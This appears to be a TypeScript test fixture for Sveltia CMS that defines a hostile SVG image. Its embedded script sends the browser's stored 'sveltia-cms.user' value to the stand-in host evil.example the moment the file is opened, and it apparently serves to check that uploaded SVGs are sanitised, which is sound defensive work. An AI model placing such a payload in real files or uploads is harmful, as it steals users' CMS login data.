/** An SVG that sends away the browser's storage as soon as someone opens it. */
export const hostileSvg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>
fetch("https://evil.example/?" + localStorage.getItem("sveltia-cms.user"))
</script><circle r="20"/></svg>`,
);
